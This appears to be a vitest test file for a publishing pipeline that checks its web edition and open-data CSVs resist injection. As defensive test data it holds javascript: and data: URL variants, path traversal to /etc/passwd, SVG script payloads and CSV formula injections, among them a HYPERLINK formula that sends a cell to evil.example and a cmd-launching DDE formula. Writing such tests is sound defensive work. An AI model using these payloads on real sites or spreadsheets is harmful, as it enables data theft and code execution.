// Nothing that runs reaches a published page (issue 28): links whose target would run code or
// leave the web edition are refused at validation with their place and again by the HTML writer;
// every page carries a Content-Security-Policy that allows no script; SVG figures that could run
// code are refused; spreadsheet formulas in the open data's text cells are neutralised.
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { cpSync, mkdtempSync, rmSync, writeFileSync, readFileSync, readdirSync, appendFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { spawnSync, execFileSync } from 'node:child_process';
import ExcelJS from 'exceljs';
import { checkDataset, buildDataset } from '../src/pipeline.js';
import { renderCsv } from '../src/render/csv.js';
import { parseCsv } from './helpers/csv.js';
import { formatProblem, hasErrors, type Problem } from '../src/problem.js';
import { resolve } from '../src/resolve/index.js';
import { webEdition } from '../src/documents/web/index.js';
import { renderWebEdition, htmlRenderer, guardUrls } from '../src/render/html.js';
import chromium from '@sparticuz/chromium';
import puppeteer, { type Browser } from 'puppeteer-core';
import { runCli } from './helpers/cli.js';
import { TEST_OUTPUT } from './setup/build-outputs.js';

const MINI = path.join(__dirname, 'fixtures', 'mini');
const work = mkdtempSync(path.join(tmpdir(), 'web-safety-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

let n = 0;
/** A copy of mini changed by `change`. */
function variant(change: (data: string) => void): string {
  const data = path.join(work, String(n++), 'mini');
  cpSync(MINI, data, { recursive: true });
  change(data);
  return data;
}
const editJson = (file: string, edit: (j: any) => void) => {
  const j = JSON.parse(readFileSync(file, 'utf8'));
  edit(j);
  writeFileSync(file, JSON.stringify(j, null, 2));
};
const shown = (ps: Problem[]) => ps.map((p) => formatProblem(p)).join('\n');
const errors = (ps: Problem[]) => ps.filter((p) => p.severity === 'error');
/** line and column (1-based) of the first `needle` in `text` */
function placeOf(text: string, needle: string): { line: number; column: number } {
  const at = text.indexOf(needle);
  expect(at, needle).toBeGreaterThanOrEqual(0);
  const before = text.slice(0, at).split('\n');
  return { line: before.length, column: before[before.length - 1].length + 1 };
}

// each a paragraph of its own; the destination is what the place must point at
const BAD_PROSE: [string, string, string][] = [
  // [Markdown, destination as written, words the message must hold]
  ['[詳しく](javascript:alert(1))', 'javascript:alert(1)', '「javascript:」'],
  ['[大文字](JaVaScRiPt:alert(1))', 'JaVaScRiPt:alert(1)', '「javascript:」'],
  ['[空白](<java script:alert(1)>)', 'java script:alert(1)', '「javascript:」'],
  ['[タブ](<java\tscript:alert(1)>)', 'java\tscript:alert(1)', '「javascript:」'],
  ['[文字参照](&#106;avascript:alert(1))', '&#106;avascript:alert(1)', '「javascript:」'],
  ['[名前の参照](javascript&colon;alert(1))', 'javascript&colon;alert(1)', '「javascript:」'],
  ['[エスケープ](javascript\\:alert(1))', 'javascript\\:alert(1)', '「javascript:」'],
  ['<vbscript:msgbox(1)>', 'vbscript:msgbox(1)', '「vbscript:」'],
  ['[データ](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'data:text/html', '「data:」'],
  ['[ほかのサイト](//evil.example/)', '//evil.example/', '「//」'],
  ['[逆斜線](/\\evil.example/)', '/\\evil.example/', '「//」'],
  ['[上の階層](../../etc/passwd)', '../../etc/passwd', '「..」'],
  ['[パーセント](%2e%2e/%2e%2e/etc)', '%2e%2e/%2e%2e/etc', '「..」'],
  ['[サイトの根](/etc/passwd)', '/etc/passwd', '「/」で始まる'],
];
const ALLOWED = 'http:// か https:// で始まるウェブのアドレス';

describe('links that would run code or leave the web edition are refused at validation', () => {
  const prose = [
    '災害に備えます。',
    ...BAD_PROSE.map(([md]) => md),
    '[参照で](javascript-ref)',
    '[問い合わせ]({{dataset.contact.url}})',
    '[r]: javascript:alert(2)',
  ]
    .join('\n\n')
    .replace('(javascript-ref)', '[r]');

  it('in a text file: each with its file, line and column, in Japanese, saying what is allowed', () => {
    const data = variant((d) => writeFileSync(path.join(d, 'text', '1-1.md.hbs'), prose));
    const { problems, model } = checkDataset(data);
    expect(model).toBeUndefined();
    const inText = errors(problems).filter((p) => p.file === 'text/1-1.md.hbs');
    for (const [md, dest, words] of BAD_PROSE) {
      const at = placeOf(prose, md);
      const want = { line: at.line, column: at.column + md.indexOf(dest) };
      const hit = inText.find((p) => p.line === want.line && p.column === want.column);
      expect(hit, `${md} at ${want.line}:${want.column} in\n${shown(problems)}`).toBeDefined();
      expect(hit!.message).toContain(words);
      expect(hit!.message).toContain(ALLOWED);
      expect(hit!.message).toMatch(/mailto:/);
    }
    // a reference-style link is placed at its definition, a link the template fills in at the link
    const def = placeOf(prose, 'javascript:alert(2)');
    expect(inText.find((p) => p.line === def.line && p.column === def.column)?.message).toContain('「javascript:」');
    const filled = placeOf(prose, '{{dataset.contact.url}}');
    expect(inText.some((p) => p.line === filled.line && p.column === filled.column)).toBe(false); // contact.url is fine here
    expect(inText).toHaveLength(BAD_PROSE.length + 1);
    expect(formatProblem(inText[0], 'mini')).toMatch(/^エラー mini\/text\/1-1\.md\.hbs:3:7: リンク先「javascript:alert\(1\)」は使えません/);
  });

  it('a link the template fills in from dataset.json is refused where the template writes it', () => {
    const data = variant((d) => {
      writeFileSync(path.join(d, 'text', '1-1.md.hbs'), '災害に備えます。\n\n[問い合わせ]({{dataset.contact.url}})\n');
      editJson(path.join(d, 'dataset.json'), (j) => (j.contact.url = 'javascript:alert(1)'));
    });
    const ps = errors(checkDataset(data).problems);
    expect(ps.find((p) => p.file === 'text/1-1.md.hbs')).toMatchObject({ line: 3, column: 9 });
    expect(ps.find((p) => p.file === 'dataset.json')).toMatchObject({ path: ['contact', 'url'], line: 10 });
  });

  it('in sites.json and dataset.json: every spelling of a script URL, at its JSON place', () => {
    const urls = [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'java\tscript:alert(1)',
      'java\nscript:alert(1)',
      'java script:alert(1)',
      ' javascript:alert(1)',
      'javascript&#58;alert(1)',
      'vbscript:x',
      '//evil.example',
      '../../etc',
      'https://www.pref.example.jp/',
    ];
    const data = variant((d) => {
      writeFileSync(
        path.join(d, 'sites.json'),
        JSON.stringify(
          urls.map((url, i) => ({ kind: 'ウェブ', name: `サイト${i}`, department: '企画部', description: '説明', url })),
          null,
          2,
        ),
      );
      editJson(path.join(d, 'dataset.json'), (j) => (j.contact.url = 'JAVASCRIPT:alert(document.cookie)'));
    });
    const { problems } = checkDataset(data);
    const sites = errors(problems).filter((p) => p.file === 'sites.json');
    expect(sites.map((p) => p.path)).toEqual(urls.slice(0, -1).map((_, i) => [i, 'url']));
    const text = readFileSync(path.join(data, 'sites.json'), 'utf8');
    sites.forEach((p, i) => {
      expect(p.line, shown([p])).toBe(placeOf(text, `"サイト${i}"`).line + 3);
      expect(p.column).toBeGreaterThan(1);
      expect(p.message).toContain(ALLOWED);
    });
    expect(sites[2].message).toContain('「java\\tscript:alert(1)」');
    const contact = errors(problems).find((p) => p.file === 'dataset.json');
    expect(contact).toMatchObject({ path: ['contact', 'url'], line: 10, column: 5 });
    expect(contact!.message).toContain('「javascript:」');
  });

  it('the CLI says so and ends with exit code 1', () => {
    const data = variant((d) => writeFileSync(path.join(d, 'text', '1-1.md.hbs'), '災害に備えます。\n\n[詳しく](javascript:alert(1))\n'));
    const r = runCli(['validate', '--data', data]);
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.stdout + r.stderr).toContain('text/1-1.md.hbs:3:7: リンク先「javascript:alert(1)」は使えません');
  });

  it('web addresses, mail addresses and links inside the edition pass and are written as links', () => {
    const good = [
      '[県](https://www.pref.example.jp/)',
      '[メール](mailto:ict@pref.example.jp)',
      '[節](#sec-1)',
      '[一覧](list.html)',
      '[第1章](./chapter-1.html#intro-0)',
      'www.pref.example.jp',
    ];
    const data = variant((d) => {
      writeFileSync(path.join(d, 'text', '1-1.md.hbs'), ['災害に備えます。', ...good].join('\n\n'));
      writeFileSync(
        path.join(d, 'sites.json'),
        JSON.stringify([{ kind: 'ウェブ', name: '県', department: '企画部', description: '説明', url: 'http://www.pref.example.jp/a?b=1&c=2' }]),
      );
      editJson(path.join(d, 'dataset.json'), (j) => (j.contact.url = 'https://www.pref.example.jp/ict/'));
    });
    const checked = checkDataset(data);
    expect(shown(errors(checked.problems))).toBe('');
    const files = renderWebEdition(webEdition(resolve(checked.model!)));
    const page = (f: string) => files.find((x) => x.name === f)!.bytes.toString('utf8');
    const pillar = page('chapter-2-1.html');
    for (const href of [
      'https://www.pref.example.jp/',
      'mailto:ict@pref.example.jp',
      '#sec-1',
      'list.html',
      './chapter-1.html#intro-0',
      'http://www.pref.example.jp',
    ])
      expect(pillar).toContain(`<a href="${href}">`);
    expect(page('sites.html')).toContain('<a href="http://www.pref.example.jp/a?b&#x3D;1&amp;c&#x3D;2">');
    expect(page('index.html')).toContain('<a href="https://www.pref.example.jp/ict/">');
  });
});

describe('texts that are never links stay text', () => {
  it('a link written in the glossary, an initiative, a figure credit or the contact mail address is printed as text, not as a link', () => {
    const md = '[詳しく](javascript:alert(1))';
    const data = variant((d) => {
      writeFileSync(path.join(d, 'glossary.json'), JSON.stringify([{ term: 'ICT', definition: `情報通信技術。${md}` }]));
      editJson(path.join(d, 'initiatives', '001.json'), (j) => (j.description = `説明。${md}`));
      editJson(path.join(d, 'dataset.json'), (j) => (j.contact.email = 'javascript:alert(1)'));
    });
    const checked = checkDataset(data);
    expect(shown(errors(checked.problems))).toBe('');
    const files = renderWebEdition(webEdition(resolve(checked.model!)));
    const all = files
      .filter((f) => f.name.endsWith('.html'))
      .map((f) => f.bytes.toString('utf8'))
      .join('\n');
    expect(all).toContain('情報通信技術。[詳しく](javascript:alert(1))');
    expect(all).toContain('説明。[詳しく](javascript:alert(1))');
    expect(all).not.toMatch(/(href|src)="[^"]*javascript/i);
  });
});

describe('the HTML writer refuses a dangerous link again (a second lock behind validation)', () => {
  const html = htmlRenderer();
  const frame = { title: 't', site: 's', heading: 'h', nav: [], contact: [] };

  it.each([
    ['javascript:alert(1)'],
    ['JaVaScRiPt:alert(1)'],
    ['java\tscript:alert(1)'],
    ['&#106;avascript:alert(1)'],
    ['data:text/html,x'],
    ['//evil.example'],
    ['../../etc/passwd'],
  ])('%j as a site, a link of the prose, a figure or the contact address throws an internal error', (href) => {
    expect(() => html.page('sites', { ...frame, sites: [{ kind: 'k', name: 'n', owner: 'o', description: 'd', url: href }] })).toThrow(
      /ウェブ版に危険なリンク先/,
    );
    expect(() => html.page('prose', { ...frame, blocks: [{ paragraph: [{ text: 'x', href }] }] })).toThrow(/ウェブ版に危険なリンク先/);
    expect(() => html.page('prose', { ...frame, blocks: [{ figure: { src: href, alt: 'a', caption: 'c', credits: [] } }] })).toThrow(
      /ウェブ版に危険なリンク先/,
    );
    expect(() => html.page('prose', { ...frame, blocks: [], url: href })).toThrow(/ウェブ版に危険なリンク先/);
  });

  it('a data set changed after validation does not reach a page: the build stops', () => {
    const checked = checkDataset(MINI);
    const r = resolve(checked.model!);
    r.booklet!.sites = [{ kind: 'ウェブ', name: 'n', department: 'd', description: 'x', url: 'javascript:alert(1)' }];
    expect(() => renderWebEdition(webEdition(r))).toThrow(/ウェブ版に危険なリンク先「javascript:alert\(1\)」/);
  });

  it('judges every URL attribute of a page, whichever template wrote it, quoted or not', () => {
    expect(() => guardUrls('<p><a href="index.html">i</a><img src=javascript:alert(1)></p>', 'x')).toThrow(
      /ウェブ版に危険なリンク先「javascript:alert\(1\)」（ページ x の src）/,
    );
    expect(() => guardUrls('<form action=\'https://evil.example/\'></form><a href="java&#x09;script:alert(1)">', 'x')).toThrow(/java\\tscript/);
    expect(() => guardUrls('<img srcset="a.png 1x, //evil.example/b.png 2x">', 'x')).toThrow(/evil/);
    expect(guardUrls('<a href="../data/opendata.xlsx">d</a><a href="#main">m</a><link rel="stylesheet" href="style.css">', 'x')).toContain('opendata');
  });

  it('passes the links the edition writes itself (pages, anchors, the open data beside it, web and mail addresses)', () => {
    const out = html.page('prose', {
      ...frame,
      blocks: [
        {
          paragraph: [
            { text: 'a', href: 'https://x.example/' },
            { text: 'b', href: 'mailto:a@x.example' },
          ],
        },
      ],
      nav: [{ href: 'index.html', text: 'i' }],
    });
    expect(out.toString()).toContain('<a href="https://x.example/">');
  });
});

describe('every page of the web edition allows no script', () => {
  const CSP = `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src 'self'; style-src 'self'; base-uri 'none'; form-action 'none'">`;
  it.each(['mini', 'miyagi-ict-plan', 'fukushima-ict-strategy'])('%s: the policy stands in the head before anything it governs', (id) => {
    const dir = path.join(TEST_OUTPUT, id, 'web');
    const pages = readdirSync(dir).filter((f) => f.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(1);
    for (const f of pages) {
      const h = readFileSync(path.join(dir, f), 'utf8');
      const head = h.slice(0, h.indexOf('</head>'));
      expect(head, f).toContain(CSP);
      expect(head.indexOf(CSP), f).toBeLessThan(head.indexOf('<link'));
      expect(h.match(/Content-Security-Policy/g), f).toHaveLength(1);
      // nothing the policy would block is written: no inline style, no script, no event attribute
      expect(h, f).not.toMatch(/ style=|<script|\son[a-z]+=/i);
    }
  });
});

describe('in Chromium, the policy keeps the pages working and stops a script that slipped in', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await puppeteer.launch({ args: chromium.args, executablePath: await chromium.executablePath(), headless: true });
  });
  afterAll(async () => browser?.close());

  /** Opens a file; hands back what the console said and the page. */
  async function open(file: string) {
    const page = await browser.newPage();
    const said: string[] = [];
    page.on('console', (m) => said.push(m.text()));
    await page.goto(`file://${file}`, { waitUntil: 'load' });
    return { page, said };
  }

  it('every page of mini: the policy is in force, the style sheet and the figures load, nothing is refused', async () => {
    const dir = path.join(TEST_OUTPUT, 'mini', 'web');
    const pages = readdirSync(dir).filter((f) => f.endsWith('.html'));
    let images = 0;
    for (const f of pages) {
      const { page, said } = await open(path.join(dir, f));
      const state = await page.evaluate(() => ({
        csp: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'),
        font: getComputedStyle(document.body).fontFamily,
        skip: getComputedStyle(document.querySelector('a.skip')!).position,
        images: [...document.images].map((i) => ({ src: i.getAttribute('src'), ok: i.complete && i.naturalWidth > 0 })),
        scripts: document.scripts.length,
      }));
      expect(state.csp, f).toContain("default-src 'none'");
      expect(state.font, f).toContain('BIZ UDPGothic');
      expect(state.skip, f).toBe('absolute');
      for (const i of state.images) expect(i.ok, `${f} ${i.src}`).toBe(true);
      images += state.images.length;
      expect(state.scripts).toBe(0);
      expect(
        said.filter((s) => /Content Security Policy|Refused/.test(s)),
        f,
      ).toEqual([]);
      await page.close();
    }
    expect(images).toBeGreaterThan(0);
  }, 60_000);

  it('an inline script, an event attribute and a javascript: link put into a page do not run; without the policy they would', async () => {
    const dir = path.join(TEST_OUTPUT, 'mini', 'web');
    const original = readFileSync(path.join(dir, 'chapter-1.html'), 'utf8');
    const injected = original.replace(
      '<main id="main" tabindex="-1">',
      '<main id="main" tabindex="-1"><script>window.ran = (window.ran || 0) + 1</script><img id="bad" src="figures/none.png" onerror="window.ran = (window.ran || 0) + 10"><a id="js" href="javascript:window.ran=(window.ran||0)+100">x</a><div style="display:none" id="styled">s</div>',
    );
    const copy = mkdtempSync(path.join(work, 'csp-'));
    cpSync(dir, copy, { recursive: true });
    const withPolicy = path.join(copy, 'with.html');
    const without = path.join(copy, 'without.html');
    writeFileSync(withPolicy, injected);
    writeFileSync(without, injected.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>\n/, ''));

    const a = await open(withPolicy);
    await a.page.click('#js');
    expect(await a.page.evaluate(() => (window as any).ran)).toBeUndefined();
    expect(await a.page.$eval('#styled', (e) => getComputedStyle(e).display)).toBe('block'); // an inline style is refused too
    expect(a.said.some((s) => /inline script|Content Security Policy/.test(s))).toBe(true);

    // the control: the same page without the policy runs all three, so the check above can fail
    const b = await open(without);
    await b.page.click('#js');
    await new Promise((r) => setTimeout(r, 100));
    expect(await b.page.evaluate(() => (window as any).ran)).toBe(111);
    await a.page.close();
    await b.page.close();
  }, 60_000);
});

describe('SVG figures that could run code when opened from the web edition are refused at validation', () => {
  const svg = (body: string) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">\n${body}\n</svg>`;
  /** the figure's problems, after asserting validation refuses it */
  function refusedSvg(body: string): Problem {
    const data = variant((d) => {
      writeFileSync(path.join(d, 'figures', 'bad.svg'), svg(body));
      appendFileSync(path.join(d, 'text', 'intro.md.hbs'), '\n\n![図表9 試し](figures/bad.svg)\n');
    });
    const { problems, model } = checkDataset(data);
    expect(hasErrors(problems)).toBe(true);
    expect(model).toBeUndefined();
    const hit = errors(problems).find((p) => p.file === 'figures/bad.svg');
    expect(hit, shown(problems)).toBeDefined();
    expect(hit!.line, shown([hit!])).toBe(2); // the line of the body, where the thing stands
    expect(hit!.column).toBeGreaterThan(1);
    return hit!;
  }

  it.each([
    ['<script>alert(1)</script>', '<script>'],
    ['<script xlink:href="evil.js"/>', '<script>'],
    ['<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>', '<h:script>'],
    ['<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>', '<foreignObject>'],
    ['<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>', '<h:iframe>'],
    ['<handler type="application/ecmascript">alert(1)</handler>', '<handler>'],
  ])('%s', (body, words) => {
    const p = refusedSvg(body);
    expect(p.message).toContain(`SVG の中の ${words} は使えません`);
    expect(p.message).toContain('図形と文字だけで描き');
  });

  it.each([
    ['<rect width="5" height="5" onclick="alert(1)"/>', '属性 onclick'],
    ['<rect width="5" height="5" ONLOAD="alert(1)"/>', '属性 ONLOAD'],
    ['<animate onbegin="alert(1)" attributeName="x" dur="1s"/>', '属性 onbegin'],
  ])('%s', (body, words) => expect(refusedSvg(body).message).toContain(words));

  it.each([
    ['<a href="javascript:alert(1)"><rect width="5" height="5"/></a>', 'javascript:alert(1)'],
    ['<a xlink:href=" JaVaScRiPt:alert(1)"><rect width="5" height="5"/></a>', 'JaVaScRiPt:alert(1)'],
    ['<a href="java&#x09;script:alert(1)"><rect width="5" height="5"/></a>', 'script:alert(1)'],
    ['<set attributeName="href" to="javascript:alert(1)"/>', '「javascript:」'],
    ['<animate attributeName="xlink:href" values="https://evil.example/;#a" dur="1s"/>', 'attributeName="xlink:href"'],
    ['<rect width="5" height="5" fill="url(javascript:alert(1))"/>', 'javascript:alert(1)'],
  ])('%s', (body, words) => expect(refusedSvg(body).message).toContain(words));

  it('an SVG of shapes, text, links inside itself and animations of its own shapes passes, and is copied to the web edition as it is', () => {
    const good = svg(
      '<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs><a href="#r"><rect id="r" width="5" height="5" fill="url(#g)"><animate attributeName="width" from="5" to="8" dur="1s"/></rect></a><text x="1" y="9" font-family="BIZ UDPGothic: sans">図</text>',
    );
    const data = variant((d) => {
      writeFileSync(path.join(d, 'figures', 'good.svg'), good);
      appendFileSync(path.join(d, 'text', 'intro.md.hbs'), '\n\n![図表9 試し](figures/good.svg)\n');
    });
    const checked = checkDataset(data);
    expect(shown(errors(checked.problems))).toBe('');
    const files = renderWebEdition(webEdition(resolve(checked.model!)));
    expect(files.find((f) => f.name === 'figures/good.svg')!.bytes.toString('utf8')).toBe(good);
  });
});

describe('spreadsheet formulas in the open data are neutralised in every CSV', () => {
  it("renderCsv: a text that begins as a formula gets a leading ', a number (even negative) stays a number", () => {
    const csv = renderCsv(
      ['=h', 'n'],
      [
        ['=1+1', -5],
        ['+1', 0],
        ['-5', 3.5],
        ['@SUM(A1)', 1],
        ['\t=1', 2],
        ['\r=1', 3],
        ['a=1', -0.25],
        ['', 4],
        ['＝1', 5],
      ],
    ).toString('utf8');
    expect(csv).toBe("\uFEFF'=h,n\r\n'=1+1,-5\r\n'+1,0\r\n'-5,3.5\r\n'@SUM(A1),1\r\n'\t=1,2\r\n\"'\r\n=1\",3\r\na=1,-0.25\r\n,4\r\n＝1,5\r\n");
  });

  const HOSTILE = {
    title: '=HYPERLINK("http://evil.example/?"&A1,"詳しく")',
    department: '@SUM(1+1)',
    division: ['+1+1', '-2+3'],
    description: '\t=1+1',
    label: "\r=cmd|' /C calc'!A0",
    baseline: '-5',
    achievement: '=1+1',
  };
  async function built(): Promise<string> {
    const data = variant((d) => {
      editJson(path.join(d, 'initiatives', '001.json'), (j) => {
        Object.assign(j, { title: HOSTILE.title, department: HOSTILE.department, division: HOSTILE.division, description: HOSTILE.description });
        j.schedule[0].label = HOSTILE.label;
        j.indicators[0].baseline.value = HOSTILE.baseline;
        j.results['2017'].achievement = HOSTILE.achievement;
      });
    });
    const out = path.join(path.dirname(data), 'out');
    const r = await buildDataset(data, out, { log: () => {} });
    expect(shown(errors(r.problems))).toBe('');
    return path.join(out, 'mini', 'data');
  }
  const read = (dir: string, f: string) => parseCsv(readFileSync(path.join(dir, f), 'utf8').replace(/^\uFEFF/, ''));
  const column = (rows: string[][], name: string) => rows.slice(1).map((r) => r[rows[0].indexOf(name)]);

  it("a data set with such values builds; every text cell that began as a formula begins with ' and says the rest as written; numbers are numbers", async () => {
    const dir = await built();
    const initiatives = read(dir, 'initiatives.csv');
    expect(column(initiatives, '事業名')[0]).toBe(`'${HOSTILE.title}`);
    expect(column(initiatives, '部局')[0]).toBe(`'${HOSTILE.department}`);
    expect(column(initiatives, '課室1')[0]).toBe(`'${HOSTILE.division[0]}`);
    expect(column(initiatives, '課室2')[0]).toBe(`'${HOSTILE.division[1]}`);
    expect(column(initiatives, '取組概要')[0]).toBe(`'${HOSTILE.description}`);
    expect(column(initiatives, '事業番号')).toEqual(['1', '2']);
    // one line per cell: the leading line break is dropped, and what is left begins as a formula too
    expect(column(read(dir, 'schedule.csv'), '内容')[0]).toBe(`'${HOSTILE.label.replace('\r', '')}`);
    expect(column(read(dir, 'indicators.csv'), '現状値')[0]).toBe(`'${HOSTILE.baseline}`);
    const results = read(dir, 'results-2017.csv');
    expect(column(results, '目標の達成度')[0]).toBe(`'${HOSTILE.achievement}`);
    expect(column(results, '事業費（千円）').every((v) => /^\d*$/.test(v))).toBe(true);
    // no text cell of any CSV begins as a formula
    for (const f of readdirSync(dir).filter((x) => x.endsWith('.csv')))
      for (const row of read(dir, f)) for (const c of row) expect(c, `${f}: ${c}`).not.toMatch(/^[=+\-@\t\r]/);
    // the data dictionary says so, and the workbook keeps the values as written (strings there are never formulas)
    const dict = read(dir, 'columns.csv');
    const typeRow = dict.find((r) => r[dict[0].indexOf('項目名')] === '型')!;
    expect(typeRow[dict[0].indexOf('説明')]).toContain("先頭に ' を付けています");
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(path.join(dir, 'opendata.xlsx'));
    const sheet = wb.worksheets[0];
    const header = (sheet.getRow(1).values as unknown[]).map(String);
    expect(sheet.getRow(2).getCell(header.indexOf('事業名')).value).toBe(HOSTILE.title);
    sheet.eachRow((r) => r.eachCell((c) => expect(c.formula, c.address).toBeUndefined()));
  }, 120_000);

  const soffice = ['soffice', 'libreoffice'].find((c) => spawnSync('which', [c]).status === 0);
  if (!soffice) {
    if (process.env.CI) throw new Error('LibreOffice (soffice) is missing: .ci/run installs libreoffice-calc-nogui');
    console.warn('\n*** LibreOffice (soffice) is not installed: the CSV-in-LibreOffice test is SKIPPED (apt-get install libreoffice-calc-nogui) ***\n');
  }
  it.skipIf(!soffice)(
    "LibreOffice opens every CSV with no formula in any cell; the same CSV without the ' would have run them",
    async () => {
      const dir = await built();
      const lo = mkdtempSync(path.join(work, 'lo-'));
      const csvs = readdirSync(dir).filter((x) => x.endsWith('.csv'));
      // the control: initiatives.csv with the neutralising ' taken away again
      const bare = readFileSync(path.join(dir, 'initiatives.csv'), 'utf8').replace(/(^|,)("?)'(?=[=+\-@\t\r])/gm, '$1$2');
      writeFileSync(path.join(lo, 'bare.csv'), bare);
      for (const f of csvs) cpSync(path.join(dir, f), path.join(lo, f));
      // 44,34,76,1: comma, double quote, UTF-8, from the first line (LibreOffice's own defaults otherwise)
      execFileSync(
        soffice!,
        [
          '--headless',
          `-env:UserInstallation=file://${lo}/profile`,
          '--infilter=CSV:44,34,76,1',
          '--convert-to',
          'xlsx',
          '--outdir',
          path.join(lo, 'xlsx'),
          ...[...csvs, 'bare.csv'].map((f) => path.join(lo, f)),
        ],
        { stdio: 'pipe', timeout: 180_000 },
      );
      const formulas = async (f: string) => {
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.readFile(path.join(lo, 'xlsx', f.replace(/\.csv$/, '.xlsx')));
        const found: string[] = [];
        const texts: string[] = [];
        wb.worksheets[0].eachRow((r) =>
          r.eachCell((c) => (c.formula ? found.push(`${c.address} ${c.formula}`) : typeof c.value === 'string' && texts.push(c.value))),
        );
        return { found, texts };
      };
      for (const f of csvs) expect((await formulas(f)).found, f).toEqual([]);
      const ok = await formulas('initiatives.csv');
      expect(ok.texts).toContain(`'${HOSTILE.title}`);
      expect((await formulas('bare.csv')).found.join('\n')).toContain('HYPERLINK');
    },
    240_000,
  );
});
